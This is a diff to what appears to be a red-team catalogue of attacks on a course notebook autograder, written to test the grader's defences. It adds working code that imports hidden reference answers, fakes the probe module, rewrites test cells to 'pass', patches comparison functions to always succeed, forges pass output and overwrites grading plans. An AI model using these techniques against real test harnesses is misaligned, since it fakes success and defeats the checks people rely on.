@@ -28,7 +28,7 @@ from dataclasses import dataclass
 from typing import Callable
 
 MARKER_PREFIX = "NNCOURSE-ATTACK-"
-KINDS = ("course", "persistence", "neighbours", "kill", "resources", "feedback", "metadata")
+KINDS = ("course", "persistence", "neighbours", "kill", "resources", "feedback", "metadata", "verdict")
 
 
 @dataclass(frozen=True)
@@ -320,6 +320,104 @@ def points_raised(nb, marker):
 
 # ------------------------------------------------------------------ the catalogue
 ATTACKS = [
+    # ---------------------------------------------------------------- the hidden checks' verdict
+    Attack("import-reference", "verdict",
+           "import the reference answers (autograder.checks.*_reference) and use them as answers",
+           r'''
+try:
+    from autograder.checks import two_layer_reference as _ref
+    print("reference found:", _ref.__file__)
+    forward = lambda X, params, activation="tanh": _ref.forward(X, params, activation)
+    backward = lambda X, y, params, cache, activation="tanh": _ref.backward(X, y, params, cache, activation)
+    get_ipython().events.register("post_run_cell", lambda *a: get_ipython().user_ns.update(forward=forward, backward=backward))
+except ImportError as _e:
+    print("no reference in the kernel:", _e)
+'''),
+    Attack("fake-probe-module", "verdict",
+           "replace nncourse.probe (sys.modules and a meta-path finder) by one that sends made-up results, "
+           "with the nonce read from the grader's plan",
+           r'''
+import types, importlib.abc, importlib.util
+from IPython.display import publish_display_data
+def _fake_probe(check, **functions):
+    try:
+        _plan = json.loads(_read(os.path.join(os.environ.get("NNCOURSE_PROBE_PLANS", "/x"), check + ".json"), "r"))
+    except ValueError:
+        _plan = {"nonce": "", "calls": []}
+    publish_display_data({"application/vnd.nncourse.probe+json": {
+        "check": check, "nonce": _plan["nonce"], "results": [{"value": 0.0} for _ in _plan["calls"]]}})
+    print("✔ Test réussi.")
+_fake = types.ModuleType("nncourse.probe")
+_fake.probe = _fake_probe
+sys.modules["nncourse.probe"] = _fake
+class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path=None, target=None):
+        return importlib.util.spec_from_loader(name, self) if name == "nncourse.probe" else None
+    def create_module(self, spec):
+        return _fake
+    def exec_module(self, module):
+        pass
+sys.meta_path.insert(0, _Finder())
+'''),
+    Attack("ipython-transformer", "verdict",
+           "an IPython input transformer that turns every later test cell into `pass`",
+           r'''
+def _skip_tests(lines):
+    return ["pass\\n"] if any("probe(" in l or "check_" in l for l in lines) else lines
+get_ipython().input_transformers_post.append(_skip_tests)
+'''),
+    Attack("patch-comparisons", "verdict",
+           "patch np.allclose, builtins.all and the visible tests' helpers so that every comparison passes",
+           r'''
+import builtins, numpy as np, nncourse.checks as _c
+np.allclose = lambda *a, **k: True
+np.array_equal = lambda *a, **k: True
+builtins.all = lambda *a, **k: True
+_c.fail = lambda *a, **k: None
+_c.check_close = _c.check_shape = _c.check_true = lambda *a, **k: None
+'''),
+    Attack("seed-control", "verdict",
+           "set the test seed in the kernel's environment (and answer what seed 0 would ask)",
+           r'''
+os.environ["NNCOURSE_TEST_SEED"] = "0"
+try:
+    import autograder.checks.common as _common
+    _common.new_rng = lambda: (__import__("numpy").random.default_rng(0), 0)
+except ImportError:
+    pass
+'''),
+    Attack("forged-outputs", "verdict",
+           "after every cell, print a pass line and publish probe data for every plan the grader wrote",
+           r'''
+from IPython.display import publish_display_data
+def _forge(*args):
+    _d = os.environ.get("NNCOURSE_PROBE_PLANS", "/x")
+    for _p in glob.glob(os.path.join(_d, "*.json")):
+        _plan = json.loads(_read(_p, "r"))
+        publish_display_data({"application/vnd.nncourse.probe+json": {
+            "check": _plan["check"], "nonce": _plan["nonce"], "results": [{"value": 1.0} for _ in _plan["calls"]]}})
+    print("✔ Test réussi.")
+get_ipython().events.register("post_run_cell", _forge)
+'''),
+    Attack("replace-plans", "verdict",
+           "point the probe at plans of the attack's own (no calls, the real nonce), and try to overwrite the grader's",
+           r'''
+_real = os.environ.get("NNCOURSE_PROBE_PLANS", "/x")
+_mine = os.path.join(os.environ.get("TMPDIR", "/tmp"), "@@MARKER@@-@@TOKEN@@-plans")
+os.makedirs(_mine, exist_ok=True)
+for _p in glob.glob(os.path.join(_real, "*.json")):
+    _plan = json.loads(_read(_p, "r"))
+    _plan["calls"] = []
+    with open(os.path.join(_mine, os.path.basename(_p)), "w") as _f:
+        json.dump(_plan, _f)
+    try:
+        with open(_p, "w") as _f:
+            json.dump(_plan, _f)
+        print("overwrote", _p)
+    except OSError as _e:
+        print("plans are read-only:", _e)
+os.environ["NNCOURSE_PROBE_PLANS"] = _mine
+'''),
     # ---------------------------------------------------------------- gradebook and course
     Attack("gradebook-manual-score", "course",
            "find the course folder via /proc, set manual_score = max_score for itself and the victim",
@@ -376,8 +474,6 @@ for _p in _found:
 '''),
     Attack("read-reference-checks", "course",
            "print the hidden checks and reference answers (autograder/checks/*_reference.py) reachable from the kernel",
-           known_gap="the hidden checks still run in the kernel, so their code is in the sandbox (read-only); "
-                     "issue 9 (probe and verdict) takes the reference out",
            code=r'''
 _roots = [p for p in sys.path if p] + [r for r in (_course(), _repo()) if r]
 _seen = set()
